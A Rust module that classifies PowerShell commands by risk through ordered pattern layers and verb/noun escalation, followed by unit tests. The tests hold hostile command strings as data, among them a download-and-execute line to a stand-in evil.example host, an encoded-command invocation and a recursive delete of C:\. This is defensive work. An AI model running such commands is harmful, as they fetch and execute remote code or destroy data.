//! Layered command classification.
//!
//! Layers are applied in a fixed order and the first decisive outcome wins;
//! no later layer may lower severity. The pattern snapshot is read once at
//! entry so a concurrent store mutation never splits one classification.

use crate::models::{SecurityAssessment, SecurityLevel};
use crate::security::patterns::{PatternSnapshot, PatternStore};
use crate::security::redact::normalize;
use std::sync::Arc;

/// Verbs whose commands are read-only or harmless by themselves.
const SAFE_VERBS: &[&str] = &["get", "test", "measure", "format", "select", "where", "sort"];

/// Verbs that mutate state and participate in escalation.
const DESTRUCTIVE_VERBS: &[&str] = &[
    "set", "stop", "remove", "new", "clear", "disable", "restart", "add", "import", "export",
    "invoke", "install", "uninstall", "move", "rename", "send", "copy",
];

/// Nouns that make a mutation verb risky on their own.
const DESTRUCTIVE_NOUNS: &[&str] = &[
    "service",
    "process",
    "item",
    "itemproperty",
    "variable",
    "alias",
    "module",
    "job",
];

pub struct Classifier {
    store: Arc<PatternStore>,
}

impl Classifier {
    pub fn new(store: Arc<PatternStore>) -> Self {
        Self { store }
    }

    pub fn classify(&self, command: &str) -> SecurityAssessment {
        let snapshot = self.store.current();
        classify_with(&snapshot, command)
    }
}

/// Classification against an explicit snapshot; the classifier entry point
/// and tests both route through here.
pub fn classify_with(snapshot: &PatternSnapshot, command: &str) -> SecurityAssessment {
    let (verb, noun) = parse_verb_noun(command);

    // Layer 1: aliases and suspicious constructions deny outright.
    if let Some(hit) = PatternSnapshot::first_match(&snapshot.critical_aliases, command) {
        return SecurityAssessment::new(
            SecurityLevel::Critical,
            format!("suspicious construction: {}", hit.name),
            vec![hit.name.clone()],
        )
        .with_tokens(verb, noun);
    }

    // Layer 2: blocked regex group.
    if let Some(hit) = PatternSnapshot::first_match(&snapshot.blocked, command) {
        return SecurityAssessment::new(
            SecurityLevel::Blocked,
            format!("matched blocked pattern: {}", hit.name),
            vec![hit.name.clone()],
        )
        .with_tokens(verb, noun);
    }

    // Layer 3: dangerous fallback group.
    if let Some(hit) = PatternSnapshot::first_match(&snapshot.dangerous, command) {
        return SecurityAssessment::new(
            SecurityLevel::Dangerous,
            format!("matched dangerous pattern: {}", hit.name),
            vec![hit.name.clone()],
        )
        .with_tokens(verb, noun);
    }

    // Layer 4: risky regex group.
    if let Some(hit) = PatternSnapshot::first_match(&snapshot.risky, command) {
        return SecurityAssessment::new(
            SecurityLevel::Risky,
            format!("matched risky pattern: {}", hit.name),
            vec![hit.name.clone()],
        )
        .with_tokens(verb, noun);
    }

    // Layer 5: safe group, learned-safe included.
    if let Some(hit) = PatternSnapshot::first_match(&snapshot.safe, command) {
        return SecurityAssessment::new(
            SecurityLevel::Safe,
            format!("matched safe pattern: {}", hit.name),
            vec![hit.name.clone()],
        )
        .with_tokens(verb, noun);
    }
    // Learned-safe patterns are authored over the normalized, redacted form
    // (placeholders like OBF_PATH), so the command is normalized the same
    // way before matching.
    let normalized = normalize(command);
    if let Some(hit) = PatternSnapshot::first_match(&snapshot.learned_safe, &normalized) {
        return SecurityAssessment::new(
            SecurityLevel::Safe,
            format!("matched learned-safe pattern: {}", hit.name),
            vec![hit.name.clone()],
        )
        .with_tokens(verb, noun);
    }

    // Layers 6 and 7: verb baseline with noun/switch escalation.
    if let (Some(v), n) = (&verb, &noun) {
        if SAFE_VERBS.contains(&v.as_str()) {
            return SecurityAssessment::new(
                SecurityLevel::Safe,
                format!("safe verb baseline: {v}"),
                vec![format!("verb:{v}")],
            )
            .with_tokens(verb.clone(), noun.clone());
        }

        if DESTRUCTIVE_VERBS.contains(&v.as_str()) {
            let flags = switch_flags(command);
            let noun_hit = n
                .as_deref()
                .map(|n| DESTRUCTIVE_NOUNS.contains(&n))
                .unwrap_or(false);
            let force_or_recurse = flags.force || flags.recurse;

            if noun_hit || force_or_recurse {
                let mut level = SecurityLevel::Risky;
                let mut fired = vec![format!("escalation:verb:{v}")];
                if noun_hit {
                    fired.push(format!("escalation:noun:{}", n.as_deref().unwrap_or("")));
                }
                if flags.force {
                    fired.push("escalation:switch:-force".to_string());
                }
                if flags.recurse {
                    fired.push("escalation:switch:-recurse".to_string());
                }
                // -Confirm:$false plus -Force (or any mutation verb, which
                // holds here) escalates one more step, unless -WhatIf with
                // no -Force caps it at Risky.
                if flags.no_confirm && !(flags.whatif && !flags.force) {
                    level = SecurityLevel::Dangerous;
                    fired.push("escalation:switch:-confirm-false".to_string());
                }
                return SecurityAssessment::new(
                    level,
                    format!("mutation verb escalation: {v}"),
                    fired,
                )
                .with_tokens(verb.clone(), noun.clone());
            }
        }
    }

    // Layer 8: unmatched. The pipeline records the command as a learning
    // candidate on this outcome.
    SecurityAssessment::new(
        SecurityLevel::Unknown,
        "no pattern or heuristic matched",
        Vec::new(),
    )
    .with_tokens(verb, noun)
}

/// Parse the leading `Verb-Noun` token pair, lowercased.
fn parse_verb_noun(command: &str) -> (Option<String>, Option<String>) {
    let first = match command.split_whitespace().next() {
        Some(t) => t,
        None => return (None, None),
    };
    let mut parts = first.splitn(2, '-');
    match (parts.next(), parts.next()) {
        (Some(v), Some(n))
            if !v.is_empty()
                && !n.is_empty()
                && v.chars().all(|c| c.is_ascii_alphabetic())
                && n.chars().all(|c| c.is_ascii_alphanumeric()) =>
        {
            (Some(v.to_ascii_lowercase()), Some(n.to_ascii_lowercase()))
        }
        _ => (None, None),
    }
}

#[derive(Debug, Default)]
struct SwitchFlags {
    force: bool,
    recurse: bool,
    no_confirm: bool,
    whatif: bool,
}

fn switch_flags(command: &str) -> SwitchFlags {
    let lower = command.to_ascii_lowercase();
    let mut flags = SwitchFlags::default();
    for token in lower.split_whitespace() {
        match token {
            "-force" => flags.force = true,
            "-recurse" => flags.recurse = true,
            "-whatif" => flags.whatif = true,
            "-confirm:$false" => flags.no_confirm = true,
            _ => {}
        }
    }
    flags
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::patterns::PatternChange;

    fn classifier() -> Classifier {
        Classifier::new(Arc::new(PatternStore::new()))
    }

    #[test]
    fn test_get_date_is_safe() {
        let a = classifier().classify("Get-Date");
        assert_eq!(a.level, SecurityLevel::Safe);
        assert!(!a.blocked);
        assert!(!a.requires_confirmation);
        assert_eq!(a.matched_patterns, vec!["get-date".to_string()]);
    }

    #[test]
    fn test_remove_item_is_risky() {
        let a = classifier().classify("Remove-Item ./file.txt");
        assert_eq!(a.level, SecurityLevel::Risky);
        assert!(a.requires_confirmation);
        assert!(!a.blocked);
    }

    #[test]
    fn test_encoded_command_is_critical() {
        let a = classifier().classify("powershell -EncodedCommand abc");
        assert_eq!(a.level, SecurityLevel::Critical);
        assert!(a.blocked);
        assert!(!a.requires_confirmation);
    }

    #[test]
    fn test_download_execute_is_critical() {
        let a = classifier().classify(
            "Invoke-WebRequest http://evil.example/payload.ps1 | iex",
        );
        assert_eq!(a.level, SecurityLevel::Critical);
    }

    #[test]
    fn test_root_delete_is_blocked() {
        let a = classifier().classify(r"Remove-Item C:\ -Recurse");
        assert_eq!(a.level, SecurityLevel::Blocked);
        assert!(a.blocked);
    }

    #[test]
    fn test_unmatched_is_unknown_with_confirmation() {
        let a = classifier().classify("frobnicate --fast");
        assert_eq!(a.level, SecurityLevel::Unknown);
        assert!(a.requires_confirmation);
        assert!(a.matched_patterns.is_empty());
    }

    #[test]
    fn test_safe_verb_baseline() {
        // Not in the safe pattern group, but Get- verbs default to safe.
        let a = classifier().classify("Get-WidgetFrobnication");
        assert_eq!(a.level, SecurityLevel::Safe);
        assert_eq!(a.verb.as_deref(), Some("get"));
        assert_eq!(a.noun.as_deref(), Some("widgetfrobnication"));
    }

    #[test]
    fn test_mutation_verb_with_destructive_noun_escalates() {
        let a = classifier().classify("Disable-Service -Name spooler");
        assert_eq!(a.level, SecurityLevel::Risky);
        assert!(a.requires_confirmation);
    }

    #[test]
    fn test_mutation_verb_with_force_escalates() {
        let a = classifier().classify("Clear-Widget -Force");
        assert_eq!(a.level, SecurityLevel::Risky);
    }

    #[test]
    fn test_confirm_false_with_force_escalates_further() {
        let a = classifier().classify("Clear-Widget -Force -Confirm:$false");
        assert_eq!(a.level, SecurityLevel::Dangerous);
        assert!(a.blocked);
    }

    #[test]
    fn test_whatif_without_force_stays_risky() {
        let a = classifier().classify("Disable-Service -Name spooler -WhatIf -Confirm:$false");
        assert_eq!(a.level, SecurityLevel::Risky);
    }

    #[test]
    fn test_confirm_false_without_mutation_verb_no_escalation() {
        let a = classifier().classify("frobnicate -Confirm:$false");
        assert_eq!(a.level, SecurityLevel::Unknown);
    }

    #[test]
    fn test_classification_is_deterministic() {
        let c = classifier();
        let a = c.classify("Remove-Item ./file.txt");
        let b = c.classify("Remove-Item ./file.txt");
        assert_eq!(a.level, b.level);
        assert_eq!(a.matched_patterns, b.matched_patterns);
        assert_eq!(a.reason, b.reason);
    }

    #[test]
    fn test_learned_safe_matches_commands_with_redacted_tokens() {
        use crate::security::redact::anchored_pattern;

        let store = Arc::new(PatternStore::new());
        let c = Classifier::new(store.clone());
        let raw = "Invoke-CustomThing /mnt/data/job.ps1";
        assert_eq!(c.classify(raw).level, SecurityLevel::Unknown);

        // Approval authors the pattern over the normalized form, where the
        // path has become a placeholder.
        store
            .mutate(PatternChange::AddLearnedSafe {
                name: "learned:invoke-customthing OBF_PATH".into(),
                pattern: anchored_pattern("invoke-customthing OBF_PATH"),
            })
            .unwrap();

        // The exact raw command classifies SAFE again.
        assert_eq!(c.classify(raw).level, SecurityLevel::Safe);
        // So does any command with the same normalized form.
        assert_eq!(
            c.classify("Invoke-CustomThing /var/tmp/other.ps1").level,
            SecurityLevel::Safe
        );
        // A structurally different command does not.
        assert_eq!(
            c.classify("Invoke-CustomThing /mnt/data/job.ps1 -Extra").level,
            SecurityLevel::Unknown
        );
    }

    #[test]
    fn test_learned_safe_promotion_changes_outcome() {
        let store = Arc::new(PatternStore::new());
        let c = Classifier::new(store.clone());
        assert_eq!(c.classify("my-tool status").level, SecurityLevel::Unknown);
        store
            .mutate(PatternChange::AddLearnedSafe {
                name: "learned:my-tool status".into(),
                pattern: r"^my-tool\s+status$".into(),
            })
            .unwrap();
        assert_eq!(c.classify("my-tool status").level, SecurityLevel::Safe);
    }
}
